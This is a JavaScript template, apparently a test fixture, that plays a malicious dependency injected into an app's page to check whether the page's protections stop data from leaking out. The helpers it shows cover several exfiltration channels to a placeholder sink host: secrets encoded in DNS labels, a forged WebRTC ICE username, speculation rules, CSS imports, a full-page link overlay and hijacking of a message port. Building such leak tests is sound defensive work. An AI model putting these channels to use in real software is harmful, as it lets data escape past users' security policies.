// A script as a bad dependency would bring it, at the app's own place in the app's own page. It makes the
// attempts that are named in `data-attempt` when its button is pressed.
(() => {
  "use strict";

  const RUN = "@RUN@";
  const SINK = "@SINK@";
  // More of the "answer", as labels for the name of the host; empty unless its length is measured.
  const LABELS = "@LABELS@";
  const TURNS = @TURNS@;
  const OWN = document.currentScript.text;
  const SVG = "http://www.w3.org/2000/svg";
  const root = document.documentElement;

  /* @ATTEMPTS@ */

  const KINDS = { stays: STAYS, keeps: KEEPS, leaves: LEAVES, takes: TAKES, tells: TELLS };
  const names = Object.values(KINDS).flatMap(Object.keys);

  // Where an attempt tries to send its "answer", which another page can carry on under the same name.
  const addresses = (name, turn = 0) => {
    const number = String(names.indexOf(name)).padStart(3, "0");
    const said = `${RUN}said${number}`;
    const place = `${RUN}${number}${LABELS ? String(turn).padStart(3, "0") + LABELS : `.${name}`}`;
    const domain = `${place}.${SINK}`;
    const host = `http://${domain}/`;
    return {
      name: domain.split(":")[0], said, host, http: `${host}${said}`, https: `https://${domain}/${said}`, ws: `ws://${domain}/${said}`,
      // Some asks are only allowed of a place that counts as secure, as this machine does.
      local: `http://${place}.@LOCAL@/${said}`,
      at: (another) => addresses(name, another),
      clinic: (path) => new URL(path, document.baseURI).href,
    };
  };

  // What stood in the page at the start, before another script takes it away.
  const found = Array.from(document.querySelectorAll("*"), (one) => one.cloneNode());

  // An element by any means that is left.
  const raw = (name) => {
    const [tag, space] = name.startsWith("svg:") ? [name.slice(4), SVG] : [name, ""];
    const markup = space ? `<svg><${tag}></svg>` : `<${tag}>`;
    const tries = [
      () => space ? document.createElementNS(space, tag) : document.createElement(tag),
      () => found.find((one) => one.localName === tag && one.namespaceURI.includes("svg") === Boolean(space)).cloneNode(),
      () => new Document().createElement(tag),
      () => Object.assign(document.createElement("div"), { innerHTML: markup }).querySelector(tag),
      () => new DOMParser().parseFromString(markup, "text/html").querySelector(tag),
      () => document.createRange().createContextualFragment(markup).querySelector(tag),
    ];
    for (const attempt of tries) {
      try {
        const made = attempt();
        if (made) return made;
      } catch {
        // The next one.
      }
    }
    throw new Error(`no ${name} can be made`);
  };
  const make = (tag, attributes, inside = []) => {
    const made = raw(tag);
    for (const [name, value] of Object.entries(attributes)) {
      if (name === "text") made.textContent = value;
      else made.setAttribute(name, value);
    }
    made.append(...inside.map((parts) => make(...parts)));
    return made;
  };
  const put = (...parts) => {
    const made = make(...parts);
    (["link", "meta", "base", "style"].includes(parts[0]) ? document.head : document.body).append(made);
    return made;
  };
  const style = (property, value, tag = "div") => {
    const at = put(tag, {});
    at.textContent = "a";
    at.style.cssText = "display:list-item;width:20px;height:20px;float:left;border:3px solid";
    at.style.setProperty(property, value);
    return at;
  };
  const sheet = () => document.styleSheets[0] || put("style", {}).sheet;
  const rule = (text) => sheet().insertRule(text, text.startsWith("@import") ? 0 : sheet().cssRules.length);
  const adopt = (text) => {
    const made = new CSSStyleSheet();
    made.replaceSync(text);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
  };
  const write = (family) => {
    const at = put("div", {});
    at.textContent = "a";
    at.style.fontFamily = family;
  };
  const speculate = (rules) => put("script", { type: "speculationrules", text: JSON.stringify(rules) });
  const blob = (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type }));
  const ask = (request, address, later) => {
    request.open("GET", address, later);
    request.send();
  };
  // A page with this very script, whose hash the policy allows.
  const again = (to, before = "", after = "") =>
    `<html xmlns="http://www.w3.org/1999/xhtml" data-again="${to.name.split(".")[1]}"><head></head><body><script>${before}` +
    `${OWN}${after}<\/script></body></html>`;
  const gather = async (iceServers, Connection = RTCPeerConnection) => {
    const call = new Connection({ iceServers });
    call.createDataChannel("a");
    await call.setLocalDescription(await call.createOffer());
  };
  // As if the other side had answered from the sink, under a name that is the secret.
  const connect = async (to) => {
    const [call, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    call.createDataChannel("a");
    await call.setLocalDescription(await call.createOffer());
    await other.setRemoteDescription(call.localDescription);
    const { sdp } = await other.createAnswer();
    const candidate = `a=candidate:1 1 udp 2122260223 @ADDRESS@ 3478 typ host\r\na=end-of-candidates\r\n`;
    const answer = sdp.replace(/a=ice-ufrag:.*/, `a=ice-ufrag:${to.said}`).replace(/a=candidate.*\r\n/g, "") + candidate;
    await call.setRemoteDescription({ type: "answer", sdp: answer });
  };
  const cover = (to) => {
    const link = put("a", { href: to.http });
    link.id = "cover";
    link.hidden = false;
    link.textContent = "a";
    link.style.cssText = "display:block;position:fixed;inset:0;z-index:9;background:white";
  };

  // The app's own way to the page, for whoever listens first.
  let port;
  addEventListener("message", (event) => {
    [port] = [...event.ports, port];
  });
  // Where the prelude does not stand, the app lacks this.
  if (!self.save) self.save = () => {};

  const notes = {};
  const note = (name, error) => {
    notes[name] = String(error);
    root.dataset.notes = JSON.stringify(notes);
  };
  const attempt = (name, to) => {
    try {
      const later = Object.assign({}, ...Object.values(KINDS))[name](to);
      if (later && later.catch) later.catch((error) => note(name, error));
    } catch (error) {
      note(name, error);
    }
  };

  root.dataset.attempts = JSON.stringify(
    Object.entries(KINDS).flatMap(([kind, list]) => Object.keys(list).map((name) => [name, kind])),
  );
  if (root.dataset.again) {
    const to = addresses(root.dataset.again);
    for (const name of Object.keys(STAYS)) attempt(name, to);
    return;
  }

  const button = document.createElement("button");
  button.type = "button";
  button.id = "press";
  button.textContent = "Press";
  button.style.cssText = "position:fixed;top:0;left:0;width:100px;height:60px;z-index:8";
  button.addEventListener("click", () => {
    for (const name of root.dataset.attempt.split(" ").filter(Boolean)) {
      // Nothing keeps a frame from telling its page something: here that the attempt was really made.
      top.postMessage(`${RUN} tries ${name}`, "*");
      attempt(name, addresses(name));
    }
  });
  document.body.append(button);
})();
